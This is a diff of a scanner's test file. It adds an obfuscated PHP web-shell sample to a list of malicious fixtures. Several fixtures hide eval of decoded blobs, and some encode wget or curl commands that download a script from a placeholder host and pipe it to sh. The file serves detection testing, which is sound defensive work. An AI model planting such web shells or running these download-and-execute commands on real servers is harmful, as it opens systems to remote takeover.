@@ -33,6 +33,11 @@ const MALICIOUS: [string, string, string][] = [
     '/var/www/html/c.php',
     `<?php\n$run = function ($c) {\n    EVAL($c);\n};\n$one = function ($x) {\n    $s = "_AeBDsCdE";\n    $n = $s[(0 * 6) + 3] . $s[(73 - 69) / 4];\n    $n .= $s[(0 * 14) + 5] . "e" . ((1 * 4) + 2) . (13 - 9) . $s[19 - 19] . $s[(1 * 4) + 3];\n    $n .= $s[6 + -4] . $s[26 - 20] . "O" . $s[20 + -16] . $s[19 + -11] . "";\n    return $n($x);\n};\nfunction two($x) {\n    $w = "nzftA";\n    $g = "G";\n    $g .= $w[(91 - 85) / 6];\n    $g .= "I" . $w[0] . $w[10 - 8];\n    $g .= "l" . $w[18 - 14] . $w[22 - 19];\n    $g .= "e";\n    return $g($x);\n}\n$p = '${blob(24000, 1)}';\n$p = $one($p);\n$p = two($p);\n$run($p);\n`,
   ],
+  [
+    'an eval wrapper kept in a closure, copied, and called through call_user_func on a decoded blob (red team S37A-50, -55)',
+    '/var/www/html/c2.php',
+    `<?php\n$r = function ($c) { eval($c); };\n$go = $r;\n$p = '${blob(3000, 4)}';\n$p = gzinflate(base64_decode($p));\ncall_user_func($go, $p);\n`,
+  ],
   ['a command given a base64-decoded literal', '/var/www/html/d.php', `<?php shell_exec(base64_decode("${b64('(wget -qO- http://dl.example.invalid/sh || curl -s http://dl.example.invalid/sh) | sh -s x')}")); echo 'ok'; ?>\n`],
   ['a download piped to sh, decoded from base64 into a variable a command function is given (red team S37A-56)', '/var/www/html/d2.php', `<?php\n$c = base64_decode("${b64('curl -s http://dl.example.invalid/x.sh | sh')}");\n@shell_exec($c . ' > /dev/null 2>&1 &');\necho "OK";\n`],
   ['a command given a rot13-decoded literal', '/var/www/html/e.php', `<?php system(str_rot13('jtrg -d uggc://qy.rknzcyr.vainyvq/o -B /gzc/o'));\n`],
@@ -153,7 +158,7 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 12));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 13));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
